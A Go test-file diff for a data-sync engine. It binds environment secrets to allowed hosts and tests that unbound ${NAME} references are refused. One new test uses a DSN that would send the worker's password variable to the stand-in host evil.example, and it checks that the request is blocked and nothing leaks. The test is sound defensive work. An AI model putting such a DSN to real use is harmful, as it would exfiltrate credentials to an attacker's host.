@@ -14,6 +14,7 @@ import (
 
 	"github.com/syncflow/syncflow/engine"
 	sferrors "github.com/syncflow/syncflow/errors"
+	"github.com/syncflow/syncflow/secrets"
 	"github.com/syncflow/syncflow/sink"
 )
 
@@ -117,7 +118,10 @@ func TestSinksDefault(t *testing.T) {
 
 func TestSinksRefuseBadDestinations(t *testing.T) {
 	t.Setenv("SYNCFLOW_TEST_PW", "p/w@d:x")
-	p := engine.NewSinks(engine.SinksOptions{})
+	// The operator bound both names to the destinations' host.
+	p := engine.NewSinks(engine.SinksOptions{ExpandDSN: engine.ExpandWith(secrets.New(secrets.Bindings{
+		"SYNCFLOW_TEST_PW": {"127.0.0.1"}, "SYNCFLOW_TEST_UNSET": {"127.0.0.1"},
+	}, nil))})
 	defer p.Close()
 	tests := []struct {
 		name, dsn string
@@ -125,7 +129,7 @@ func TestSinksRefuseBadDestinations(t *testing.T) {
 		text      string
 	}{
 		{"literal password", "postgres://app:hunter2@127.0.0.1:1/x", sferrors.InvalidRequest, "literal password"},
-		{"unset variable", "postgres://app:${SYNCFLOW_TEST_UNSET}@127.0.0.1:1/x", sferrors.InvalidRequest, "${SYNCFLOW_TEST_UNSET} is not set"},
+		{"unset variable", "postgres://app:${SYNCFLOW_TEST_UNSET}@127.0.0.1:1/x", sferrors.InvalidRequest, "${SYNCFLOW_TEST_UNSET} is bound to host 127.0.0.1:1 but is not set"},
 		{"unsupported scheme", "mysql://app@db/x", sferrors.InvalidRequest, "unsupported destination"},
 		{"sqlite with options", "sqlite:///tmp/x.db?mode=memory", sferrors.InvalidRequest, "takes no options"},
 		{"sqlite file that cannot be created", "sqlite:///proc/syncflow/x.db", sferrors.Unrecoverable, "open destination sqlite:///proc/syncflow/x.db"},
@@ -142,6 +146,20 @@ func TestSinksRefuseBadDestinations(t *testing.T) {
 			}
 		})
 	}
+}
+
+// A pool without bindings resolves no ${NAME}, even one set in the
+// worker's environment: a task cannot read the worker's environment
+// through its destination.
+func TestSinksResolveNoSecretByDefault(t *testing.T) {
+	t.Setenv("SYNCFLOW_TEST_PW", "p/w@d:x")
+	p := engine.NewSinks(engine.SinksOptions{})
+	defer p.Close()
+	_, _, err := p.Acquire(t.Context(), "postgres://app:${SYNCFLOW_TEST_PW}@evil.example:5432/x")
+	require.Error(t, err)
+	assert.Equal(t, sferrors.InvalidRequest, classOf(t, err), "%v", err)
+	assert.Contains(t, err.Error(), "${SYNCFLOW_TEST_PW} is not bound to any host")
+	assert.NotContains(t, err.Error(), "p/w@d:x")
 }
 
 func TestExpandDSNRefsEscapesValues(t *testing.T) {
